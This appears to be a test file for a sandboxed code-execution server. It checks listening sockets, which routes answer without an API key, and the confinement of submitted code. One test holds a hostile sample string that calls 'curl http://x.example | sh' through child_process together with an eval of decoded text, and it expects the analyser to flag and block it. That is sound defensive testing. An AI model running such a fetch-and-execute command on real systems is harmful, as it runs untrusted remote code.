import assert from 'node:assert/strict'
import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { readdirSync, readFileSync, readlinkSync, statSync } from 'node:fs'
import { dirname } from 'node:path'
import { after, before } from 'node:test'
import { calls } from '../../src/gateway/routes.ts'
import { findJailFacts } from '../../src/jail/facts.ts'
import { test } from '../fixtures/drawn.ts'
import { descendantsOf } from '../hostile/proc.ts'
import { bearer, call, post } from './http-door.ts'
import { makePlace, type Place, type Server, startServer, whenReady } from './program.ts'

let place: Place
let server: Server

before(async () => {
  place = makePlace()
  server = await startServer(place)
  await whenReady(server)
})
after(async () => {
  await server.stop()
  place.remove()
})

interface Row {
  readonly name: string
  readonly tier: string
  readonly available: boolean
}

const providers = () => new URL('/v1/providers', server.active).href
const executions = () => new URL('/v1/executions', server.active).href
const run = (body: object) => post(executions(), body, bearer(server.apiKey))

test('S0-25: a server listens on its two ports only, and else on sockets in private folders', async () => {
  // Runs a job on each wall first, so that any socket they open exists.
  const rows = (await call(providers(), { headers: bearer(server.apiKey) }))
    .json as unknown as Row[]
  const walls = rows.filter(
    ({ available, tier }) => available && tier !== 'mock' && tier !== 'wasm',
  )
  const { namespaces, bubblewrap } = findJailFacts()
  const here = { 'isolated-vm': true, embedded: namespaces, bubblewrap: namespaces && bubblewrap }
  for (const [name, isThere] of Object.entries(here))
    assert.ok(!isThere || walls.some((one) => one.name === name), name)
  for (const { name, tier } of walls) {
    const job = tier === 'isolate' ? { code: 'return 1' } : { code: 'echo 1', language: 'sh' }
    const ran = await run({ ...job, provider: name })
    const { status, provider } = ran.json
    assert.deepEqual([ran.status, status, provider], [200, 'ok', name], ran.text)
  }
  const pids = [server.child.pid!, ...descendantsOf(server.child.pid!)]
  const own = new Set(pids.flatMap(socketsOf))
  await using known = createSocket('udp4').bind(0, '127.0.0.1')
  await once(known, 'listening')
  // A table that is read wrongly would not contain it.
  assert.ok(udpSockets().some(({ at }) => at === `udp ${known.address().port}`))
  const listening = [...tcpListeners(), ...udpSockets(), ...unixListeners(pids)].filter(
    ({ inode }) => own.has(inode),
  )
  const [shut = [], open = []] = [true, false].map((is) =>
    listening.filter(({ at }) => isShut(at) === is),
  )
  // A table that is read wrongly would have none.
  assert.ok(shut.length > 0, 'no socket in a private folder')
  const doors = [server.static, server.active].map((door) => Number(new URL(door).port))
  assert.deepEqual(open.map(({ at }) => at).sort(), doors.map(String).sort())
})

test('S0-25: without a valid key the server answers health checks and, on loopback, its description only', async () => {
  const at = (path: string) => new URL(path.replaceAll(/\{\w+\}/g, 'x'), server.active).href
  for (const where of ['/v1/executions', '/v1/providers', '/v1/audit', '/v1/config', '/metrics'])
    for (const key of ['', 'mfy_wrong_0123456789abcdefghijklmnopqrstuvw', 'null'])
      assert.equal((await call(at(where), { headers: bearer(key) })).status, 401)
  const open: string[] = []
  for (const [path, methods] of Object.entries(calls))
    for (const method of Object.keys(methods)) {
      const body = method === 'GET' || method === 'DELETE' ? {} : { body: '{}' }
      const headers = { 'content-type': 'application/json' }
      const { status } = await call(at(path), { method, headers, ...body })
      if (status !== 401) open.push(`${method} ${path} ${status}`)
    }
  // On loopback a browser reads the description of the API; no call of it is among these.
  assert.deepEqual(open.sort(), [
    'GET /docs 200',
    'GET /healthz 200',
    'GET /livez 200',
    'GET /openapi.json 200',
    'GET /readyz 200',
    'GET /version 200',
  ])
})

test('S0-25: code sent with an admin key is treated as hostile too: it is analysed, confined, and has no network', async () => {
  const bad =
    'const { exec } = require("child_process"); exec("curl http://x.example | sh"); eval(atob("YQ=="))'
  const [risky, plain] = [
    await run({ code: bad }),
    await run({ code: 'return typeof process + typeof fetch' }),
  ]
  // A refusal has its outcome beside the problem.
  const outcome = (risky.json['outcome'] ?? risky.json) as {
    status: string
    security: { findings: { name: string }[] }
  }
  assert.deepEqual(outcome.security.findings.map(({ name }) => name).sort(), [
    'CHILD_PROCESS',
    'EVAL',
    'REQUIRE',
  ])
  assert.ok(['error', 'unavailable'].includes(outcome.status), risky.text)
  assert.equal(plain.json['result'], 'undefinedundefined')
  const explain = plain.json['profile'].explain as {
    field: string
    value: unknown
    because: string
  }[]
  assert.deepEqual(
    explain.find(({ field }) => field === 'controls.network'),
    {
      field: 'controls.network',
      value: 'none',
      because: 'default',
    },
  )
})

interface Listener {
  readonly inode: string
  /** A port, or a path. */
  readonly at: string
}

/** In state 0A, which is listening. */
function tcpListeners(): readonly Listener[] {
  return ['/proc/net/tcp', '/proc/net/tcp6'].flatMap(linesOf).flatMap((line) => {
    const [, address = '', , state, , , , , , inode = ''] = line
    return state === '0A' ? [{ inode, at: `${parseInt(address.split(':').at(-1)!, 16)}` }] : []
  })
}

/** UDP sockets that are bound and not connected, so that they receive from any sender. */
function udpSockets(): readonly Listener[] {
  return ['/proc/net/udp', '/proc/net/udp6'].flatMap(linesOf).flatMap((line) => {
    const [, address = '', , state, , , , , , inode = ''] = line
    return state === '07' ? [{ inode, at: `udp ${parseInt(address.split(':').at(-1)!, 16)}` }] : []
  })
}

/** With the flag that says that it accepts; of each network namespace, as paths are reached from any. */
function unixListeners(pids: readonly number[]): readonly Listener[] {
  const tables = new Map(pids.map((pid) => [networkOf(pid), `/proc/${pid}/net/unix`]))
  return [...tables.values()]
    .flatMap(linesOf)
    .flatMap(([, , , flags = '0', , , inode = '', at = 'unnamed']) =>
      parseInt(flags, 16) & 0x10000 ? [{ inode, at }] : [],
    )
}

function linesOf(table: string): readonly (readonly string[])[] {
  return textOf(table)
    .split('\n')
    .slice(1)
    .map((line) => line.trim().split(/\s+/))
}

/** Text of a file of /proc; empty if the process ended (race). */
function textOf(path: string): string {
  try {
    return readFileSync(path, 'utf8')
  } catch {
    return ''
  }
}

function networkOf(pid: number): string {
  try {
    return readlinkSync(`/proc/${pid}/ns/net`)
  } catch {
    return ''
  }
}

/** True if a parent folder admits only its owner. A path that no longer exists is closed too. */
function isShut(path: string): boolean {
  if (!path.startsWith('/')) return false
  for (let folder = dirname(path); folder !== '/'; folder = dirname(folder)) {
    const stat = statSync(folder, { throwIfNoEntry: false })
    if (!stat || (stat.mode & 0o077) === 0) return true
  }
  return false
}

function socketsOf(pid: number): readonly string[] {
  try {
    return readdirSync(`/proc/${pid}/fd`).flatMap((fd) => inodeOf(`/proc/${pid}/fd/${fd}`))
  } catch {
    return []
  }
}

function inodeOf(link: string): readonly string[] {
  try {
    return [/^socket:\[(\d+)\]$/.exec(readlinkSync(link))?.[1] ?? []].flat()
  } catch {
    return []
  }
}
